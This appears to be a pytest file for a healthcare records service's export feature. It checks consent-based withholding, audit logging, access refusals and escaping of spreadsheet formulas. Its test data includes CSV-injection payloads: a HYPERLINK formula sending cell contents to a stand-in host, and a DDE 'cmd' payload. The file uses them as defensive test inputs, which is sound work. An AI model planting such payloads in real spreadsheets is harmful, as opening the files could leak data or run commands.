"""Exports: what the asker may read, by the very acts that read it; safe to open; fetched only while the right stands."""

import csv
import io
import json
from typing import Any
from uuid import UUID

import httpx
import pytest
from openpyxl import load_workbook
from tests.access.test_scopes import limited
from tests.access.world import figure
from tests.bulk.test_import_lines import lines, take_in
from tests.factories import Region, Vendor, agree, join, register, report, sheet, submit
from tests.http.inside import as_owner
from tests.http.twice import link, part, registered_twice

from renkei.schemas.bulk.guarding import DANGEROUS, guarded, unguarded
from renkei.settings import Settings
from renkei.worker.labour import Labour

PAYLOADS = ("1+1", 'HYPERLINK("http://x/?"&A1,"見る")', "cmd|' /C calc'!A0")
FORMULA = '=HYPERLINK("http://x/?"&A1,"見る")'


async def export(vendor: Vendor, labour: Labour, by: str | None = "nurse", **said: Any) -> dict[str, Any]:
    """Ask for one and see it done."""
    answer = await vendor.post("/v1/exports", said, by=by)
    assert answer.status_code == 202, answer.text
    for _ in range(50):
        await labour.exporter.work()
        job = (await vendor.get(answer.headers["Location"], by=by)).json()
        if job["state"] not in ("queued", "running"):
            return dict(job)
    raise AssertionError(job)


async def fetched(vendor: Vendor, job: dict[str, Any], by: str = "nurse") -> bytes:
    """Its file."""
    answer = await vendor.get(job["file"], by=by)
    assert answer.status_code == 200, answer.text
    assert answer.headers["Content-Disposition"].startswith("attachment")
    return answer.content


async def town(region: Region) -> tuple[Vendor, Vendor, str]:
    """A clinic and nurses who each wrote about a patient; a consent opens medical and reports to the team."""
    clinic, nurses = await region.found(), await region.found("visiting_nursing")
    patient = await register(clinic, by="physician")
    await join(clinic, nurses, patient)
    await agree(clinic, patient, groups=["person", "medical", "care_report"])
    diagnosis = [{"name": FORMULA, "role": "primary"}, {"name": "高血圧", "role": "comorbid"}]
    await submit(clinic, patient, sheet({"medical": {"weight": 51, "diagnosis": diagnosis}}), by="physician")
    await submit(nurses, patient, report(items={"body": "＝1+1", "body_temperature": 36.5}), by="nurse")
    return clinic, nurses, patient


async def test_of_one_patient_what_reading_shows_and_one_event(
    region: Region, labour: Labour, settings: Settings
) -> None:
    _, nurses, patient = await town(region)
    job = await export(nurses, labour, what="patient", patient_id=patient, format="ndjson")
    assert job["state"] == "done" and job["progress"] == {"done": 1, "total": 1}
    assert {(one["group"], one["reason"]) for one in job["withheld"]} >= {("living", "no_consent")}
    told = [json.loads(line) for line in (await fetched(nurses, job)).splitlines()]
    assert [one["kind"] for one in told] == ["patient", "summary", "face_sheet", "care_report"]
    shown = (await nurses.get(f"/v1/patients/{patient}/face-sheets", by="nurse")).json()["items"]
    assert told[2] == {**shown[0], "kind": "face_sheet"}
    summary = (await nurses.get(f"/v1/patients/{patient}/summary", by="nurse")).json()
    assert told[1] == {"kind": "summary", **summary}
    whole = await export(nurses, labour, what="patient", patient_id=patient, format="json")
    assert json.loads(await fetched(nurses, whole)) == told
    query = "SELECT action, count(*) FROM audit_events WHERE patient_id = %s AND action LIKE 'export.%%' GROUP BY 1"
    assert dict(as_owner(settings, query, UUID(patient))) == {
        "export.request": 2,
        "export.make": 2,
        "export.download": 2,
    }


async def test_no_cell_is_a_formula(region: Region, labour: Labour) -> None:
    _, nurses, patient = await town(region)
    job = await export(nurses, labour, what="patient", patient_id=patient, format="csv", sheet="face_sheets")
    content = await fetched(nurses, job)
    assert content.startswith("\ufeff".encode())
    (row,) = csv.DictReader(io.StringIO(content.decode("utf-8-sig")))
    assert row["medical.diagnosis.name"] == f"'{FORMULA}" and row["medical.diagnosis.2.name"] == "高血圧"
    assert row["medical.weight"] == "51" and "living" in row["withheld"]
    job = await export(nurses, labour, what="patient", patient_id=patient, format="xlsx")
    book = load_workbook(io.BytesIO(await fetched(nurses, job)))
    assert book.sheetnames == ["patients", "face_sheets", "care_reports"]
    kinds = {cell.data_type for page in book for row in page.iter_rows() for cell in row}
    assert "f" not in kinds
    names, values = book["care_reports"].iter_rows(values_only=True)
    told = dict(zip(names, values, strict=True))
    assert (told["care_report.body"], told["care_report.body_temperature"]) == ("'＝1+1", 36.5)


async def test_texts_that_begin_like_a_formula_are_written_as_texts(region: Region, labour: Labour) -> None:
    nurses = await region.found("visiting_nursing")
    patient = await register(nurses, by="nurse")
    payloads = [f"{first}{rest}" for first in sorted(DANGEROUS) for rest in PAYLOADS]
    kept = []
    for payload in payloads:
        sent = await nurses.post(f"/v1/patients/{patient}/care-reports", report(items={"body": payload}), by="nurse")
        assert sent.status_code in (201, 422), sent.text
        kept += [payload] if sent.status_code == 201 else []
    said = {"what": "own_records", "sheet": "care_reports"}
    text = await fetched(nurses, await export(nurses, labour, **said, format="csv"))
    rows = list(csv.DictReader(io.StringIO(text.decode("utf-8-sig"), newline="")))
    assert sorted(row["care_report.body"] for row in rows) == sorted(f"'{one}" for one in kept)
    cells = [cell for row in rows for cell in row.values()]
    assert not [cell for cell in cells if cell[:1] in DANGEROUS and cell]
    book = load_workbook(
        io.BytesIO(await fetched(nurses, await export(nurses, labour, what="own_records", format="xlsx")))
    )
    told = [cell for page in book for row in page.iter_rows() for cell in row]
    assert not [cell for cell in told if cell.data_type == "f" or str(cell.value)[:1] in DANGEROUS]
    figure(f"formulas in exports: {len(payloads)} sent, {len(kept)} kept and written out; cells computed 0")


@pytest.mark.parametrize("first", sorted(DANGEROUS))
def test_every_beginning_of_a_formula_is_guarded_and_comes_back(first: str) -> None:
    assert guarded(f"{first}1")[0] == "'"
    assert unguarded(guarded(f"{first}1")) == f"{first}1"
    assert guarded("普通") == "普通" and guarded("") == "" and unguarded("'普通") == "'普通"


async def test_ones_own_records_of_every_patient(region: Region, labour: Labour, settings: Settings) -> None:
    clinic, nurses = await region.found(), await region.found("visiting_nursing")
    patients = [await register(nurses, by="nurse") for _ in range(23)]
    sent = [{"kind": "care_report", "patient_id": patient, "body": report()} for patient in patients]
    await take_in(nurses, labour.importer, lines(*sent))
    await join(nurses, clinic, patients[0], "attending_physician")
    await submit(clinic, patients[0], report(), by="physician")
    job = await export(nurses, labour, what="own_records", format="ndjson")
    told = [json.loads(line) for line in (await fetched(nurses, job)).splitlines()]
    assert sum(one["kind"] == "patient" for one in told) == 23
    reports = [one for one in told if one["kind"] == "care_report"]
    assert len(reports) == 23 and {one["organization"]["id"] for one in reports} == {nurses.id}
    query = (
        "SELECT count(*), count(DISTINCT patient_id) FROM audit_events WHERE request_id = %s AND action = 'export.make'"
    )
    assert as_owner(settings, query, UUID(job["id"])) == [(23, 23)]
    none = await export(await region.found(), labour, what="own_records", format="json")
    assert none["progress"] == {"done": 0, "total": 0}
    none = await export(nurses, labour, what="own_records", format="csv", sheet="care_reports", to="2020-01-01")
    assert (await fetched(nurses, none)).decode("utf-8-sig").strip() == ""


async def test_another_worker_writes_out_what_one_that_died_had_begun(
    region: Region, labour: Labour, settings: Settings
) -> None:
    nurses = await region.found("visiting_nursing")
    patients = [await register(nurses, by="nurse") for _ in range(23)]
    sent = [{"kind": "care_report", "patient_id": patient, "body": report()} for patient in patients]
    await take_in(nurses, labour.importer, lines(*sent))
    asked = await nurses.post("/v1/exports", {"what": "own_records", "format": "ndjson"}, by="nurse")
    path, died = asked.headers["Location"], Labour.of(settings)
    assert died is not None
    while not (job := (await nurses.get(path, by="nurse")).json())["progress"]["done"]:
        await died.exporter.work()
    assert (job["state"], job["progress"]["done"]) == ("running", 20)
    await died.close()  # with all it had written, which lay with it alone
    while (job := (await nurses.get(path, by="nurse")).json())["state"] == "running":
        await labour.exporter.work()
    told = [json.loads(line) for line in (await fetched(nurses, job)).splitlines()]
    assert sorted(one["patient_id"] for one in told if one["kind"] == "care_report") == sorted(patients)
    assert job["progress"] == {"done": 23, "total": 23}


async def test_what_is_written_out_can_be_read_in(region: Region, labour: Labour) -> None:
    _, nurses, _ = await town(region)
    job = await export(nurses, labour, what="own_records", format="csv", sheet="care_reports")
    content = await fetched(nurses, job)
    headers = {"Content-Type": "text/csv"}
    sent = await nurses.call("POST", "/v1/imports?sheet=care_reports", by="nurse", content=content, headers=headers)
    while (back := (await nurses.get(sent.headers["Location"], by="nurse")).json())["state"] != "waiting":
        await labour.importer.work()
    assert back["wrong"] == 0, (await nurses.get(back["errors"], by="nurse")).json()
    await nurses.post(f"{sent.headers['Location']}/confirmation", {}, by="nurse")
    while (back := (await nurses.get(sent.headers["Location"], by="nurse")).json())["state"] != "done":
        await labour.importer.work()
    assert (back["repeated"], back["wrong"]) == (1, 0)


async def test_fetched_only_by_who_asked_and_while_the_right_stands(
    region: Region, labour: Labour, settings: Settings
) -> None:
    clinic, nurses, patient = await town(region)
    consents = (await clinic.get(f"/v1/patients/{patient}/consents", by="physician")).json()["items"]
    job = await export(nurses, labour, what="patient", patient_id=patient, format="ndjson")
    # None: the system itself, which names no user.
    for vendor, by in ((nurses, "physician"), (nurses, None), (clinic, "nurse")):
        assert (await vendor.get(job["file"], by=by)).status_code == 404
        assert (await vendor.get(f"/v1/exports/{job['id']}", by=by)).status_code == 404
        assert (await vendor.get("/v1/exports", by=by)).json()["items"] == []
    listed = (await nurses.get("/v1/exports", by="nurse")).json()["items"]
    assert [one["id"] for one in listed] == [job["id"]]
    await clinic.post(
        f"/v1/patients/{patient}/consents/{consents[0]['id']}/withdrawal", {"reason": "申し出"}, by="physician"
    )
    refused = await nurses.get(job["file"], by="nurse")
    assert (refused.status_code, refused.json()["reason_code"]) == (409, "rights_changed")
    assert refusals(settings, refused, patient) == ["rights_changed"]
    hidden = await register(clinic)
    absent = "01a21c06-468d-702d-8b24-b3b382df978c"
    asks = [{"what": "patient", "patient_id": one, "format": "ndjson"} for one in (hidden, absent)]
    for said in asks:
        refused = await nurses.post("/v1/exports", said, by="nurse")
        assert (refused.status_code, refusals(settings, refused, said["patient_id"])) == (404, ["not-found"])
    assert (await nurses.post("/v1/exports", {"what": "patient", "format": "csv"}, by="nurse")).status_code == 422
    as_owner(settings, "UPDATE jobs SET ended_at = now() - interval '2 days' WHERE id = %s", UUID(job["id"]))
    await labour.forget_files()
    assert (await nurses.get(f"/v1/exports/{job['id']}", by="nurse")).json()["file"] is None
    assert (await nurses.get(job["file"], by="nurse")).status_code == 404


def refusals(settings: Settings, answer: httpx.Response, patient: str) -> list[str]:
    """Why this patient's records were refused, by the one event of a request."""
    query = "SELECT patient_id::text, reason FROM audit_events WHERE request_id = %s AND outcome = 'refused'"
    rows = as_owner(settings, query, answer.headers["x-request-id"])
    assert {id_ for id_, _ in rows} == {patient}
    return [reason for _, reason in rows]


async def test_of_a_linked_person_once_and_not_fetched_any_more_when_parted(region: Region, labour: Labour) -> None:
    t = await registered_twice(region)
    for patient in (t.one, t.two):
        await submit(t.office, patient, report(), by="nurse")
    assert (await link(t.office, t.one, t.two)).status_code == 201
    own = await export(t.office, labour, what="own_records", format="ndjson")
    told = [json.loads(line) for line in (await fetched(t.office, own)).splitlines()]
    assert [one["kind"] for one in told] == ["patient", "care_report", "care_report"]
    job = await export(t.office, labour, what="patient", patient_id=t.one, format="ndjson")
    told = [json.loads(line) for line in (await fetched(t.office, job)).splitlines()]
    assert {one["patient_id"] for one in told if one["kind"] == "care_report"} == {t.one, t.two}
    assert (await part(t.office, t.one, t.two)).status_code == 201
    assert (await t.office.get(job["file"], by="nurse")).status_code == 409  # half of it is somebody else's now


async def test_outside_the_scope_of_reading_nothing_is_written_out(region: Region, labour: Labour) -> None:
    _, nurses, patient = await town(region)
    narrow = await limited(nurses, "exports patients")
    for said in ({"what": "own_records"}, {"what": "patient", "patient_id": patient}):
        job = await export(narrow, labour, None, format="ndjson", **said)
        assert (job["state"], job["reason"], job["file"]) == ("failed", "forbidden", None)


async def test_who_loses_the_tie_meanwhile_gets_nothing(region: Region, labour: Labour, settings: Settings) -> None:
    clinic = await region.found()
    nurses = await region.found("visiting_nursing")
    patient = await register(clinic)
    await join(clinic, nurses, patient)
    asked = await nurses.post("/v1/exports", {"what": "patient", "patient_id": patient, "format": "ndjson"}, by="nurse")
    await clinic.call("DELETE", f"/v1/patients/{patient}/care-team/{nurses.id}", by="physician")
    for _ in range(20):
        await labour.exporter.work()
    job = (await nurses.get(asked.headers["Location"], by="nurse")).json()
    assert (job["state"], job["reason"], job["file"]) == ("failed", "not_found", None)
    query = "SELECT action, outcome, reason FROM audit_events WHERE request_id = %s AND patient_id = %s"
    assert as_owner(settings, query, UUID(job["id"]), UUID(patient)) == [("export.make", "refused", "not-found")]
    started = await clinic.post("/v1/exports", {"what": "own_records", "format": "ndjson"}, by="nurse")
    gone = await clinic.call("DELETE", started.headers["Location"], by="nurse")
    assert gone.json()["state"] == "cancelled"
